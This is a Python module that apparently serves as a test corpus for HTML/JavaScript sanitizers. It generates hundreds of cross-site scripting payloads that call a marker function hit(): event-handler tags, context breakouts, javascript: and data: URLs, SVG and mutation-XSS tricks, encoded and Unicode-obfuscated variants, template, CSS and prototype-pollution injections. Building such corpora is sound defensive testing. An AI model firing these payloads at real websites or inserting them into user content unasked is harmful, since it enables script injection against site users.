"""Texts that try to become markup or script: families of attacks, each with several carriers. `hit()` tells that one ran."""

from itertools import product

EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "iframe", "marquee")
SCHEMES = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", "\x01javascript:hit()",
    "&#106;avascript:hit()", "javascript&colon;hit()", "javascript:/*--></title></style>*/hit()",
    "data:text/html,<script>parent.hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()", "blob:javascript:hit()",
)  # fmt: skip
ESCAPES = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "*/", "</textarea>", "</title>", "</style>", "</script>")
"""What may end the place that the text was put into."""

TAGGED = [f"<{tag} {event}=hit()>" for tag, event in product(TAGS, EVENTS)]
BROKEN_OUT = [f"{escape}<script>hit()</script>" for escape in ESCAPES]
ATTRIBUTES = [
    f"x{quote}{space}{event}={quote}hit(){quote}"
    for quote, space, event in product(('"', "'", "`", ""), (" ", "/", "\t", "\n"), EVENTS[:5])
]
LINKED = [carrier.format(scheme) for scheme, carrier in product(SCHEMES, ("{}", '<a href="{}">x</a>', "[x]({})"))]
FRAMES = [
    form.format(scheme)
    for scheme, form in product(
        SCHEMES[:4],
        (
            '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">',
            '<form action="{}"><button>x</button></form>', '<base href="{}">',
            '<meta http-equiv=refresh content="0;url={}">',
        ),
    )
]  # fmt: skip
SVG = [
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:,hit() />",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit() begin=0s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#x\"/></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    '<svg><style>@import"javascript:hit()"</style></svg>',
    "<svg><image href=x onerror=hit() /></svg>",
    "<svg/onload=hit()//",
]
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>",
    "<template><script>hit()</script></template>",
    "<select><template><img src=x onerror=hit()></template></select>",
    "<table><td><script>hit()</script></td></table>",
    "<svg><desc><img src=x onerror=hit()></desc></svg>",
    "<plaintext><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href='javascript:hit()'?>",
    "<img src=x title='a&quot; onerror=&quot;hit()'>",
    "<a title='&lt;/a&gt;&lt;img src=x onerror=hit()&gt;'>x</a>",
]
ENCODED = [
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "&amp;lt;script&amp;gt;hit()",
    "<scr\u200bipt>hit()</scr\u200bipt>",
    "<\u017fcript>hit()</\u017fcript>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2039img src=x onerror=hit()\u203a",
    "<img src=x onerror\u00a0=hit()>",
    "<img\u2028src=x\u2029onerror=hit()>",
    "<\u0131mg src=x onerror=hit()>",
]
TURNED = [
    f"{mark}{payload}{end}"
    for (mark, end), payload in product(
        (("\u202e", "\u202c"), ("\u2066", "\u2069"), ("\u200f", ""), ("\u061c", ""), ("\ufeff", "")),
        ("<img src=x onerror=hit()>", "txt.exe", "javascript:hit()"),
    )
]
"""Marks that turn the direction of reading, or that nobody sees."""

TEMPLATES = [
    form.format(call)
    for form, call in product(
        ("{{{{{}}}}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "{{{{constructor.constructor('{}')()}}}}", "[[{}]]"),
        ("hit()", "this.hit()", "7*7", "window['hit']()"),
    )
]
STYLES = [
    "<style>@import 'javascript:hit()';</style>",
    "<div style=background:url(javascript:hit())>",
    "<div style=width:expression(hit())>",
    "<link rel=stylesheet href=javascript:hit()>",
    "<style>*{animation:x}@keyframes x{}</style><b onanimationstart=hit()>",
    "<p style=position:fixed;inset:0;background:red>over everything</p>",
    "</style><script>hit()</script>",
    "x;}*{display:none}",
    "url('javascript:hit()')",
]
CALLS = [
    "');hit();//",
    '");hit();//',
    "\\');hit();//",
    "</script><script>hit()</script>",
    "';hit();'",
    '"-hit()-"',
    "`-hit()-`",
    "${hit()}",
    '{"__proto__":{"innerHTML":"<img src=x onerror=hit()>"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}',
    "__proto__",
    "constructor",
    "toString",
    "onload=hit()",
    "<script>hit()",
    "<script src=data:,hit()></script>",
    "<script type=module>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script/x>hit()</script\t>",
    "<<script>hit();//<</script>",
    "<img src='x' onerror='hit()' />",
    '<img """><script>hit()</script>">',
    "<input type=image src=x onerror=hit()>",
    "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=hit()>",
    "<a href=# onclick=hit() autofocus tabindex=0>x</a>",
    "<custom-element onfocus=hit() tabindex=0 autofocus>",
    "<div contenteditable onblur=hit() autofocus>",
    "<audio src=x onerror=hit()>",
    "<source onerror=hit()>",
    "<isindex action=javascript:hit()>",
]

PAYLOADS = list(
    dict.fromkeys(
        TAGGED
        + BROKEN_OUT
        + ATTRIBUTES
        + LINKED
        + FRAMES
        + SVG
        + MUTATING
        + ENCODED
        + TURNED
        + TEMPLATES
        + STYLES
        + CALLS
    )
)
